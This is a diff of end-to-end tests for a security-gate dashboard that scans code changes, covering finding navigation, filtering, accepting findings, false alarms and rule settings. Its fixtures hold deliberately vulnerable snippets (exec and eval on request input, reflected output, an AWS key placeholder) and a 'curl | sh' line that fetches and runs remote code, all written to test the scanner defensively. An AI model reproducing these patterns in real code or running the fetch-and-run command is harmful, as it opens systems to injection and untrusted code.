@@ -166,7 +166,7 @@ test.serial('the overview: figures, charts by their names, and the same as table
   const tiles = (await page.innerText('.tiles')).replaceAll(/\s+/g, ' ');
   t.regex(tiles, /Blocked share 75 % 3 of 4 changes/);
   t.regex(tiles, /Time to decide \d+ s 90 % within/);
-  t.regex(tiles, /False alarms 100 % 1 of 1 let pass/);
+  t.regex(tiles, /Overridden 100 % 1 of 1; false alarms: 0/);
   t.regex(tiles, /Secrets found 3 /);
   t.regex(await page.innerText('.chart:has-text("Noisiest rules")'), /secret-aws.*1 of 1/s);
   const verdicts = page.getByRole('img', { name: /^Verdicts: blocked, carried, passed, from / });
@@ -207,6 +207,18 @@ test.serial('rules: searched, what each finds and does not, tried in place', asy
   await page.click('text=/^Try$/');
   await page.waitForSelector('text=It finds nothing here.');
   t.deepEqual(await violations(page), []);
+  // A past change, which holds it, and one that does not.
+  const plain = await house.submit(change(newFile('a.md', 'Plain\n')));
+  await page.click('text=Try a past change');
+  const past = page.locator('details:has-text("Try a past change")');
+  for (const [tried, answer] of [
+    [id, 'It finds something here.'],
+    [plain, 'It finds nothing here.'],
+  ] as const) {
+    await past.locator('input').fill(tried);
+    await past.locator('button').click();
+    await past.locator(`text=${answer}`).waitFor();
+  }
   await page.click('text=All rules');
   await page.waitForSelector('table.rules tbody tr');
   t.is(await page.locator('table.rules tbody tr').count(), 100, 'a part of them is made');
@@ -218,6 +230,18 @@ test.serial('rules: searched, what each finds and does not, tried in place', asy
   await page.locator('table.rules tbody tr').nth(20).waitFor({ state: 'detached' });
   t.regex(page.url(), /q=CWE-78\+python\+shell/);
   await open('#/rules/rule/llm-injection', 'text=This rule has no pattern');
+  // Its severity and mode, changed by the form, are in force afterwards.
+  await open('#/rules/rule/risk-alembic-drop', 'text=Change its severity or mode');
+  await page.click('text=Change its severity or mode');
+  await page.selectOption('text=Severity', 'low');
+  await page.selectOption('text=Mode', 'monitor');
+  await page.click('text=Write into the file');
+  await page.click('text=Put in force');
+  await page.waitForSelector('text=In force as revision');
+  await open('#/rules/rule/risk-alembic-drop', 'aside >> text=monitor');
+  t.regex(await page.innerText('h1'), /low/);
+  await page.click('text=Who changed it');
+  await page.waitForSelector('aside >> text=/Revision \\d+ by local-admin/');
   t.deepEqual(problems, []);
 });
 
@@ -263,6 +287,66 @@ test.serial('a change with three findings is decided in its first view', async (
   t.deepEqual(await violations(page), []);
 });
 
+test.serial(
+  'findings: by file, filtered, one accepted for a time, one a false alarm',
+  async (t) => {
+    const house = dashboard();
+    const { page, problems, open } = await house.visit(t);
+    const repo = 'per/finding';
+    const shell = "const all = 'ls ' + req.query.dir;\nexec(all);\n";
+    const diff = [
+      newFile('src/list.js', `${shell}eval(req.query.a);\n`),
+      newFile('deploy/env.sh', `KEY=${AWS_KEY}\n`),
+      newFile('install.sh', 'curl -s https://a.example/i | sh\n'),
+      newFile('src/page.js', 'res.send(req.query.b);\n'),
+    ];
+    const id = await house.submit(change(diff.join(''), { repo_name: repo }));
+    await open(`#/rfc/${id}`, '.finding .code');
+    const findings = page.locator('.finding');
+    await page.keyboard.press('j');
+    await page.waitForSelector('.finding:focus');
+    await page.keyboard.press(']');
+    await page.keyboard.press(']');
+    t.regex(await page.innerText(':focus'), /^sink/);
+    await page.keyboard.press('[');
+    t.regex(await page.innerText(':focus'), /^source/);
+    await page.click('text=by file');
+    await page.waitForURL(/by=file/);
+    await page.waitForSelector('summary >> text=src/list.js');
+    await page.keyboard.press('/');
+    await page.keyboard.type('high env.sh');
+    await page.waitForSelector('text=1 found');
+    t.is(await findings.count(), 1);
+    t.deepEqual(await violations(page), []);
+    // One word of a person counts at the rule, and moves no verdict.
+    const secret = page.locator('.finding:has-text("secret-aws")');
+    await secret.locator('summary:has-text("False alarm")').click();
+    await secret.locator('textarea').fill('A key of the documentation');
+    await secret.locator('button[type=submit]').click();
+    await secret.locator('.badge:has-text("false alarm")').waitFor();
+    await secret.locator('summary:has-text("No false alarm")').waitFor();
+    t.regex(await page.innerText('h1'), /BLOCKED/);
+    await secret.locator('button:has-text("Accept")').click();
+    await page.waitForSelector('.tick >> text=/Accept 1 of the findings/');
+    const until = await page.inputValue('[type=date]');
+    await page.fill('#reason', REASON);
+    await page.fill('text=Type override vuln-', 'override vuln-01');
+    await page.click('button.main');
+    await page.waitForSelector('text=recorded in the audit trail');
+    const accepted = await house.call<{ rule: string; expires_at: string }[]>(
+      `accepted?repo=${repo}`,
+    );
+    t.deepEqual(
+      accepted.map(({ rule, expires_at: end }) => [rule, end]),
+      [['secret-aws-access-key-id', `${until}T00:00:00.000Z`]],
+    );
+    await open(`#/overview?repo=${repo}`, '.tiles');
+    await page.waitForSelector('.tiles >> text=/false alarms: 1/');
+    await open('#/rules/rule/secret-aws-access-key-id', 'aside >> text=/1 of \\d+/');
+    t.deepEqual(problems, []);
+  },
+);
+
 test.serial('the way of the data is a list of stops with the lines that it passes', async (t) => {
   const house = dashboard();
   const { page, open } = await house.visit(t);
@@ -297,8 +381,14 @@ test.serial(
     const house = dashboard();
     const { page, problems, open } = await house.visit(t);
     const long = Array.from({ length: 900 }, (_, n) => `log(${n});`).join('\n');
-    const diff =
-      newFile('src/a.js', `${long}\neval(req.query.a);\n`) + newFile('env.sh', `KEY=${AWS_KEY}\n`);
+    const binary = 'diff --git a/run.so b/run.so\nnew file mode 100755\nindex 0000000..1111111\n';
+    const diff = [
+      newFile('src/a.js', `${long}\neval(req.query.a);\n`),
+      newFile('env.sh', `KEY=${AWS_KEY}\n`),
+      newFile('yarn.lock', '# yarn lockfile v1\n'),
+      newFile('src/api.ts', '// @generated by a tool\nexport {};\n'),
+      `${binary}Binary files /dev/null and b/run.so differ\n`,
+    ].join('');
     const id = await house.submit(change(diff));
     await open(`#/rfc/${id}`, '.finding .place a');
     await page.click('.finding:has-text("vuln-02") .place a');
@@ -310,6 +400,13 @@ test.serial(
     t.true((await page.locator('.file tr').count()) < 600);
     t.false((await page.innerText('main')).includes(AWS_KEY));
     t.deepEqual(await violations(page), []);
+    // What a program wrote is folded, unless it has findings; what no gate read says so.
+    for (const file of ['yarn.lock', 'src/api.ts']) {
+      const box = page.locator(`[data-file="${file}"]`);
+      t.is(await box.locator('.badge').innerText(), 'generated', file);
+      t.false(await box.locator('figure').isVisible(), file);
+    }
+    t.regex(await page.innerText('[data-file="run.so"]'), /not looked at.*Binary file/s);
     // The files stand beside their lines, and lead to them.
     t.regex(await page.innerText('.tree'), /src\/\s+a\.js\s+1\s+finding/);
     await page.click('.tree >> text=env.sh');
@@ -321,7 +418,7 @@ test.serial(
     await page.waitForSelector('.split tr.hit');
     t.regex(page.url(), /view=split/);
     t.deepEqual(await violations(page), []);
-    await page.click('tr.hit a.badge');
+    await page.click('.finding-mark a.badge');
     await page.waitForSelector('.finding:focus');
     t.deepEqual(problems, []);
   },
